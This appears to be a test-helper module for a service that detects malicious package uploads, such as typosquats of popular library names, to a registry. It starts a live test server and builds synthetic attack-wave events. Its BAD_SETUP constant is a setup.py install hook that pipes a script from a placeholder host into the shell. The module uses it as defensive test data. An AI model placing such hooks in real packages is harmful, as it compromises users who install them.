"""Helpers for the service tests: a real uvicorn server on a free port, over SQLite and
PostgreSQL, with one token per role, and event builders."""

from __future__ import annotations

import dataclasses
import re
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn

from detector.policy import ServicePolicy, load_policy
from service.app import create_app
from service.config import Settings
from service.db import make_engine, migrate, session_factory
from service.tokens import create_token
from service.vocab import Role

PG_ADMIN_URL = "postgresql+psycopg://postgres@127.0.0.1:5432/test"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _pg_reachable() -> bool:
    try:
        import psycopg

        with psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=test",
                             connect_timeout=3):
            return True
    except Exception:
        return False


@dataclass
class Database:
    url: str
    kind: str
    drop: Any = None


def _new_pg_database() -> Database:
    import psycopg

    name = f"warden_svc_{uuid.uuid4().hex[:12]}"
    with psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=test",
                         autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')

    def drop() -> None:
        with psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=test",
                             autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')

    return Database(f"postgresql+psycopg://postgres@127.0.0.1:5432/{name}", "postgresql", drop)


def new_database(kind: str, tmp: Path) -> Database:
    if kind == "sqlite":
        return Database(f"sqlite:///{tmp / f'warden-{uuid.uuid4().hex[:8]}.db'}", "sqlite")
    if not _pg_reachable():
        pytest.skip("PostgreSQL is not reachable on 127.0.0.1:5432")
    return _new_pg_database()


HISTORY = timedelta(hours=3)


@dataclass
class Server:
    """A running service: its base URL, one token per role, and a clock for event times.

    Event times follow the wall clock, as a registry's do: the service runs its windows
    and its breaker on event time, and refuses events more than 5 minutes ahead of its
    clock or older than 7 days. The first event a test server sees is dated `HISTORY`
    (3 h) back, so that its stream has history behind the 1-hour windows at once."""

    url: str
    database: Database
    tokens: dict[str, str]
    settings: Settings
    started: datetime = field(default_factory=lambda: datetime.now(UTC))
    _last: datetime | None = None

    @property
    def base(self) -> datetime:
        """The time of the first event of this server's stream."""
        return self.started - HISTORY

    def client(self, role: str | None = None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {self.tokens[role]}"} if role else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=30)

    def ts(self) -> str:
        """A fresh, increasing event time near the wall clock (tests share one stream
        scorer per server); the first is `HISTORY` back."""
        if self._last is None:
            moment = self.base
        else:
            moment = max(datetime.now(UTC), self._last + timedelta(milliseconds=10))
        self._last = moment
        return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    def uid(self, prefix: str = "e") -> str:
        return f"{prefix}-{uuid.uuid4().hex[:12]}"


def add_tokens(url: str) -> dict[str, str]:
    engine = make_engine(url)
    migrate(engine)
    with session_factory(engine)() as session:
        tokens = {role: create_token(session, role, f"test-{role}") for role in Role}
    engine.dispose()
    return tokens


@dataclass
class _Running:
    server: uvicorn.Server
    thread: threading.Thread


def start_server(settings: Settings) -> tuple[str, _Running]:
    port = free_port()
    config = uvicorn.Config(create_app(settings), host="127.0.0.1", port=port,
                            log_level="warning", access_log=False, lifespan="on")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 60
    while not server.started:
        if not thread.is_alive() or time.monotonic() > deadline:
            raise RuntimeError("the test server did not start")
        time.sleep(0.05)
    return f"http://127.0.0.1:{port}", _Running(server, thread)


def stop_server(running: _Running) -> None:
    running.server.should_exit = True
    running.thread.join(timeout=30)


def _test_policy() -> str:
    """Cohort bursts are normally judged only after days of history; the tests start cold."""
    return "[stream.cohorts]\nmin_history_hours = 0\n"


TEST_POLICY = _test_policy()


def with_overrides(settings: Settings, overrides: dict[str, Any]) -> Settings:
    """``settings`` with some ``[service]`` policy keys (or Settings fields) replaced."""
    names = {f.name for f in dataclasses.fields(ServicePolicy)}
    table = {k: v for k, v in overrides.items() if k in names}
    rest = {k: v for k, v in overrides.items() if k not in table}
    service = dataclasses.replace(settings.policy.service, **table)
    policy = dataclasses.replace(settings.policy, service=service)
    return dataclasses.replace(settings, policy=policy, **rest)


@contextmanager
def service_database(kind: str, tmp: Path, policy_text: str = "", **overrides: Any
                     ) -> Iterator[Server]:
    """A fresh database with the role tokens, dropped on exit, and the settings of a
    server on it (`policy_text` adds tables to the test policy). The server is not
    running: `running` starts a process, as often as a test restarts it."""
    database = new_database(kind, tmp)
    policy = tmp / f"policy-{uuid.uuid4().hex[:8]}.toml"
    policy.write_text(TEST_POLICY + policy_text)
    try:
        tokens = add_tokens(database.url)
        settings = with_overrides(Settings.load(database.url, load_policy(policy)), overrides)
        yield Server("", database, tokens, settings)
    finally:
        if database.drop:
            database.drop()


@contextmanager
def running(server: Server) -> Iterator[Server]:
    """A service process on ``server``'s database and settings, stopped on exit; its event
    clock goes on from ``server``'s, so a restarted service sees one stream."""
    url, process = start_server(server.settings)
    try:
        yield dataclasses.replace(server, url=url)
    finally:
        stop_server(process)


def run_service(kind: str, tmp: Path, policy_text: str = "", **overrides: Any
                ) -> Iterator[Server]:
    """A server on a fresh database; `policy_text` adds tables to the test policy."""
    with service_database(kind, tmp, policy_text, **overrides) as server, \
            running(server) as live:
        yield live


CSRF_FIELD = re.compile(r'name="csrf_token" value="([^"]*)"')


def csrf_token(client: httpx.Client, page: str) -> str:
    """The CSRF token in the forms of `page` (as a browser would submit it)."""
    found = CSRF_FIELD.search(client.get(page).text)
    assert found, f"no CSRF field on {page}"
    return found.group(1)


def login_pages(client: httpx.Client, token: str, next_: str = "/ui/queue") -> httpx.Response:
    """Log `client` in to the pages as a browser does: open the log-in form, post it."""
    csrf = csrf_token(client, "/ui/login")
    return client.post("/ui/login", data={"token": token, "next": next_, "csrf_token": csrf})


def account_event(server: Server, username: str | None = None, **account: Any) -> dict[str, Any]:
    return {"id": server.uid("a"), "ts": server.ts(), "type": "account.created",
            "account": {"username": username or server.uid("user"), **account}}


def wave(server: Server, size: int, prefix: str) -> list[dict[str, Any]]:
    """A registration wave: throwaway accounts on one mail provider's domain (an
    organisation's own domain would be a site: weak, issue 16) each creating a squat
    with the same hook."""
    events = []
    for i in range(size):
        user = f"{prefix}{i}x{uuid.uuid4().hex[:4]}"
        events.append(account_event(server, user, email=f"{user}@inbox.ru"))
        events.append(project_event(server, f"reqeusts-{prefix}{i}", user,
                                    files={"setup.py": BAD_SETUP}))
    return events


# Popular names the mixed wave squats in turn: no one target holds the wave.
SQUATS = ("reqeusts", "nmupy", "pandsa", "djnago", "flaks", "urlib3", "boto33", "pytset")


def mixed_wave(server: Server, size: int, prefix: str) -> list[dict[str, Any]]:
    """``wave`` spread so that no cohort holds it (each account its own e-mail domain,
    squats of several targets): an automatic trip pauses the whole event type."""
    events = []
    for i in range(size):
        user = f"{prefix}{i}x{uuid.uuid4().hex[:4]}"
        events.append(account_event(server, user, email=f"{user}@{user}.example"))
        events.append(project_event(server, f"{SQUATS[i % len(SQUATS)]}{prefix}{i}", user,
                                    files={"setup.py": BAD_SETUP}))
    return events


def cohort_wave(server: Server, size: int, prefix: str, domain: str, ip: str
                ) -> list[dict[str, Any]]:
    """A wave held by one cohort: every account from ``domain`` and the /24 of ``ip``
    (``a.b.c``), each creating a squat of a different target."""
    events = []
    for i in range(size):
        user = f"{prefix}{i}x{uuid.uuid4().hex[:4]}"
        account = account_event(server, user, email=f"{user}@{domain}")
        account["account"]["ip"] = f"{ip}.{10 + i}"
        events.append(account)
        project = project_event(server, f"{SQUATS[i % len(SQUATS)]}{prefix}{i}", user,
                                files={"setup.py": BAD_SETUP})
        project["account"]["ip"] = f"{ip}.{10 + i}"
        events.append(project)
    return events


def project_event(server: Server, name: str, username: str | None = None,
                  files: dict[str, str] | None = None, kind: str = "project.created"
                  ) -> dict[str, Any]:
    project: dict[str, Any] = {"name": name}
    if files is not None:
        project["files"] = files
    return {"id": server.uid("p"), "ts": server.ts(), "type": kind,
            "account": {"username": username or server.uid("user")}, "project": project}


def post_project(server: Server, name: str) -> dict[str, Any]:
    """Send a new project named ``name`` as the registry; the decision, checked 200."""
    with server.client("registry") as client:
        answer = client.post("/v1/events", json=project_event(server, name))
    assert answer.status_code == 200, answer.text
    return answer.json()


# A defanged install hook: downloads and runs a script (the host is reserved for examples).
BAD_SETUP = (
    "import os\nfrom setuptools import setup\n"
    "os.system('curl -s http://payload.example/x.sh | sh')\n"
    "setup(name='demo', version='0.1')\n"
)


def wait_for(predicate: Callable[[], object], seconds: float = 20.0) -> bool:
    """Poll ``predicate`` every 0.25 s until it is true or ``seconds`` pass."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.25)
    return False
